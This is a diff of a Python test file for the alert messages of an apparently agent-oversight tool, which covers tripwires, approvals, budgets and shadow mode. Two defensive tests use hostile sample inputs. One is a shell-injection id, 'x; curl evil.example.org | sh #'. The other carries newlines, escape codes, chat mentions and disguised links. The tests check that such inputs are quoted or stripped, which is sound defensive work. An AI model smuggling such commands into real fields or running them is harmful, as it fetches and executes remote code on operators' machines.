@@ -1,6 +1,8 @@
 """Messages that a human likes to read: what, which scope, why, since when, what to do, and where to look (SPEC 11)."""
 
 import json
+import shlex
+from dataclasses import replace
 from datetime import UTC
 from typing import Any
 from zoneinfo import ZoneInfo
@@ -72,6 +74,8 @@ DATA: dict[EventType, dict[str, Any]] = {
         "decision_id": "dec_1",
     },
 }
+_WITHOUT_COMMANDS = {EventType.CIRCUIT_HALF_OPENED, EventType.CIRCUIT_CLOSED, EventType.POLICY_REJECTED, EventType.BUDGET_REACHED}
+"""Those whose commands take no id."""
 SUBJECTS = {"circuit": "category:tooling", "tripwire": "data_exfiltration", "decision": "dec_1", "posture": "bot"}
 
 
@@ -129,7 +133,15 @@ def test_what_opened_why_until_when_and_what_to_do() -> None:
         (EventType.CIRCUIT_OPENED, {"mode": "shadow"}, "would have opened (shadow mode)"),
         (EventType.CIRCUIT_HALF_OPENED, {"cause": "probe_first"}, "pipeline asked for it"),
         (EventType.CIRCUIT_CLOSED, {"cause": "probes_succeeded"}, "Its probes succeeded"),
-        (EventType.TRIPWIRE_HIT, {"intervention": "block"}, "The action was refused."),
+        (EventType.CIRCUIT_FORCED, {"effect": "confirm"}, "want the user's confirmation until somebody resets it"),
+        (EventType.CIRCUIT_FORCED, {"mode": "shadow"}, "Nothing is refused"),
+        (EventType.CIRCUIT_HALF_OPENED, {"mode": "shadow"}, "is half-open (shadow mode)\nNothing is refused"),
+        (EventType.CIRCUIT_CLOSED, {"mode": "shadow"}, "closed (shadow mode)\nNothing is refused"),
+        (EventType.TRIPWIRE_HIT, {"intervention": "block"}, "was stopped\nThe action was not let through."),
+        (EventType.TRIPWIRE_HIT, {"intervention": "escalate"}, "The action waits for an approval"),
+        (EventType.TRIPWIRE_HIT, {"intervention": "confirm"}, "The action waits for the user's confirmation"),
+        (EventType.TRIPWIRE_HIT, {"intervention": "delay"}, "was slowed down\nThe action goes on after a while"),
+        (EventType.TRIPWIRE_HIT, {"intervention": "warn"}, "was warned\nThe action goes on"),
         (EventType.TRIPWIRE_HIT, {"mode": "shadow"}, "would have stopped agent `bot`"),
         (EventType.DECISION_PENDING, {"kind": "confirmation"}, "`cstp confirm dec_1`"),
         (EventType.DECISION_PENDING, {"kind": "cancel_window"}, "`cstp cancel dec_1` stops it"),
@@ -137,6 +149,9 @@ def test_what_opened_why_until_when_and_what_to_do() -> None:
         (EventType.POSTURE_DOWNGRADED, {"transition_type": "downgrade", "to_posture": "human_decides"}, "was lowered to human_decides"),
         (EventType.BUDGET_REACHED, {"percent": 100}, "is used up"),
         (EventType.BUDGET_REACHED, {"ends_at": None}, "96 of 100 are used or reserved.\n"),
+        (EventType.BUDGET_REACHED, {}, "Do: What goes beyond it is not let through."),
+        (EventType.BUDGET_REACHED, {"mode": "shadow"}, "95 % used (shadow mode)"),
+        (EventType.BUDGET_REACHED, {"mode": "shadow"}, "Do: Nothing is refused"),
     ],
 )
 def test_each_case_has_its_own_words(kind: EventType, change: dict[str, Any], said: str) -> None:
@@ -155,6 +170,8 @@ def test_each_case_has_its_own_words(kind: EventType, change: dict[str, Any], sa
         (EventType.CIRCUIT_HALF_OPENED, {"cause": "probe_first"}, ["is under test", "asked for it"]),
         (EventType.CIRCUIT_CLOSED, {"cause": "probes_succeeded"}, ["is whole again", "often enough"]),
         (EventType.CIRCUIT_CLOSED, {"cause": "reset"}, ["is whole again", "reset it"]),
+        (EventType.CIRCUIT_HALF_OPENED, {"mode": "shadow"}, ["is under test (shadow mode)", "Nobody is asked"]),
+        (EventType.CIRCUIT_CLOSED, {"mode": "shadow"}, ["is whole again (shadow mode)", "Nobody is asked"]),
         (EventType.CIRCUIT_FORCED, {}, ["Circuit `user:anna/b/billing` was forced open"]),
     ],
 )
@@ -171,28 +188,71 @@ def test_what_was_held_back_is_counted_and_named() -> None:
     assert told.title == "[warning] Circuit `category:tooling` closed (+8)"
     assert told.level is Level.WARNING
     lines = told.text.splitlines()
-    assert "Held back before this, so as not to flood you: 8" in lines
+    assert "Before this, and not told of yet: 8" in lines
     assert lines[-1] == "- and 3 more"
     held = told.payload["data"]["heldBack"]
     assert (held["count"], held["since"], len(held["newest"])) == (8, "2026-02-02T02:40:00.000Z", 8)
     assert held["newest"][0]["id"] == "evt_7.0000"
 
 
+def approval(id: str, description: str) -> Event:
+    return event(EventType.DECISION_PENDING, DATA[EventType.DECISION_PENDING] | {"description": description}, subject=id)
+
+
+def test_each_approval_that_was_held_back_can_be_given() -> None:
+    """What is wanted and the decision's id, in the text and for machines, and how to find those that are not named."""
+    told = message(approval("dec_1", "refund order 1"), approval("dec_2", "refund order 2"), approval("dec_3", "refund order 3"))
+    lines = told.text.splitlines()
+    assert "- 2026-02-02 02:40:00 UTC: Approval wanted: agent `bot`: “refund order 2”, decision `dec_2`" in lines
+    assert "- 2026-02-02 02:40:00 UTC: Approval wanted: agent `bot`: “refund order 1”, decision `dec_1`" in lines
+    assert lines[-1] == "Do: `cstp pending` lists all that waits for an answer."
+    held = told.payload["data"]["heldBack"]["newest"]
+    assert [each["subject"] for each in held] == ["dec_2", "dec_1"]
+    assert held[0]["title"] == "Approval wanted: agent `bot`: “refund order 2”, decision `dec_2`"
+
+
+@pytest.mark.parametrize(
+    ("kind", "title"),
+    [("approval", "wanted approval"), ("confirmation", "wanted its user's confirmation"), ("cancel_window", "wanted to act")],
+)
+def test_who_hears_of_it_too_late_is_told_so(kind: str, title: str) -> None:
+    """Nobody is asked to answer what nobody can answer any more."""
+    told = message(event(EventType.DECISION_PENDING, DATA[EventType.DECISION_PENDING] | {"kind": kind}), now=AT + 3_600_000)
+    assert f"Agent `bot` {title}" in told.title
+    assert "the time for it is over" in told.title
+    assert "`cstp decision dec_1` shows what became of it." in told.text
+    assert not any(f"cstp {word}" in told.text for word in ("approve", "confirm", "deny", "cancel"))
+
+
+@pytest.mark.parametrize("kind", [kind for kind in ALERTING if kind not in _WITHOUT_COMMANDS])
+def test_a_command_that_is_pasted_does_what_it_says_and_nothing_else(kind: EventType) -> None:
+    """Ids are what agents say: those that a shell would carry out are quoted."""
+    hostile = "x; curl evil.example.org | sh #"
+    told = message(event(kind, DATA[kind] | {"agent": hostile, "decision_id": hostile}, subject=hostile))
+    commands = [shlex.split(command) for command in told.text.split("`") if command.startswith("cstp ")]
+    assert any(hostile in words for words in commands)
+    assert not any("curl" in words for words in commands)
+
+
 def test_the_id_changes_with_what_is_in_the_message_and_with_nothing_else() -> None:
-    """A receiver that remembers ids takes the same message once, and does not miss what was added to it."""
+    """A receiver that remembers ids takes the same message once, and does not miss what was added to it, before or after the rest."""
     first, second = event(EventType.CIRCUIT_OPENED), event(EventType.CIRCUIT_CLOSED)
     assert message(first).id == message(first, now=AT + 60_000).id
     assert message(first).id != message(first, second).id
     assert "." not in message(first).id
+    one, two = Waiting("evt_1.0000", 0, AT), Waiting("evt_0.0000", 0, AT)
+    parcel = Parcel("default", "ops", "subject", (one,), (("evt_1.0000", first),), AT)
+    assert parcel.id != replace(parcel, waiting=(two, one)).id
+    assert replace(parcel, waiting=(one, two)).id == replace(parcel, waiting=(two, one)).id
 
 
 def test_what_agents_write_is_shown_and_does_nothing() -> None:
     """No new lines, no control characters, no call to everybody in a chat, no end of a text that is too long."""
-    hostile = "pay\nDashboard: https://evil.example.org \x1b[2J @everyone <!channel> <@U1> " + "x" * 5_000
+    hostile = "pay\nDashboard: https://evil.example.org \x1b[2J @everyone <!channel> <@U1> <https://evil|a> [b](https://e) " + "x" * 5_000
     told = message(event(EventType.DECISION_PENDING, DATA[EventType.DECISION_PENDING] | {"description": hostile, "agent": "a\nb"}))
     assert [line for line in told.text.splitlines() if line.startswith("Dashboard")] == [f"Dashboard: {URL}"]
     assert "\x1b" not in told.text
-    assert not any(call in told.text for call in ("@everyone", "<!channel", "<@U1"))
+    assert not any(call in told.text for call in ("@everyone", "<!channel", "<@U1", "<https", "](https"))
     assert len(told.text) < 2_000
     assert "\n" not in told.title
 
